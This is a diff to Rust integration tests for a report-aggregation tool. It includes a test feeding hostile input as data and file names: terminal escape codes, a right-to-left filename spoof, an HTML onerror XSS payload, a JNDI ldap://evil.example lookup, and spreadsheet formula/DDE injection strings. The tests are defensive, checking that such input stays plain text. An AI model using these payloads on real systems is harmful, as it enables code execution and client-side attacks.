@@ -117,6 +117,34 @@ fn links_pipes_and_closed_folders_are_told_and_lead_nowhere() {
     assert!(!result(&home).to_string().contains("\"value\":11"));
 }
 
+/// With programme and other files known, the reader is started after the file was looked at: one that changes the file
+/// first stands for a copy that goes on.
+#[cfg(target_os = "linux")]
+#[test]
+fn a_file_that_grows_while_it_is_read_is_read_again_whole() {
+    use std::os::unix::fs::PermissionsExt;
+    use tonghop::run::{Apart, Config, Order, Silent};
+    let home = office(&[("a.txt", report("95"))]);
+    let (grown, reader) = (home.path().join("inputs/bao-cao/b.txt"), home.path().join("reader"));
+    let (program, rest) = (env!("CARGO_BIN_EXE_tonghop"), "bảo hiểm y tế đạt 91%.");
+    let script = format!(
+        "#!/bin/sh\nif [ -e '{0}' ]; then echo ' {rest}' >> '{0}'; fi\nexec '{program}' \"$@\"\n",
+        grown.display()
+    );
+    fs::write(&reader, script).unwrap();
+    fs::set_permissions(&reader, fs::Permissions::from_mode(0o755)).unwrap();
+    let mut config = Config::default();
+    (config.folders.inputs, config.folders.outputs) = (home.path().join("inputs"), home.path().join("outputs"));
+    config.reading.apart = Apart::Processes(reader);
+    let order = Order { config, ..Order::default() };
+    tonghop::run::run(&order, &Silent).unwrap();
+    fs::write(&grown, format!("{HEAD}- Tỷ lệ dân số tham gia")).unwrap();
+    tonghop::run::run(&order, &Silent).unwrap();
+    assert_eq!(fs::read_to_string(&grown).unwrap().matches(rest).count(), 1, "the reader was started once");
+    assert!(states(&home).iter().all(|(_, state)| state == "read"), "{:?}", states(&home));
+    assert!(result(&home).to_string().contains("\"value\":91"), "{}", result(&home));
+}
+
 #[test]
 fn clocks_that_jump_change_no_result() {
     let home = office(&[("a.txt", &report("95")), ("b.txt", &report("95,5").replace("Kết quả", "Các kết quả"))]);
@@ -162,7 +190,11 @@ fn text_of_a_sender_stays_text_in_every_output() {
          \u{1b}]0;evil\u{7} \u{202e}gnp.exe ]]> &lt;img src=x onerror=alert(1)&gt; ${{jndi:ldap://evil.example}}.\n\
          - +cmd|' /C calc'!A0: số hộ nghèo giảm còn 12 hộ.\n"
     );
-    let home = office(&[("=cmd|calc'!A0 <b>x&y.txt", hostile.as_str()), ("@SUM(1+1).txt", "không phải báo cáo")]);
+    let names = match cfg!(windows) {
+        true => ["=cmd calc'!A0 x&y.txt", "@SUM(1+1).txt"],
+        false => ["=cmd|calc'!A0 <b>x&y\u{1b}[31m\u{202e}\u{7}.txt", "\u{1b}]0;@SUM(1+1).txt"],
+    };
+    let home = office(&[(names[0], hostile.as_str()), (names[1], "không phải báo cáo")]);
     let output = run(&home);
     assert_ne!(output.status.code(), Some(2), "{}", String::from_utf8_lossy(&output.stderr));
     let mut seen = 0;
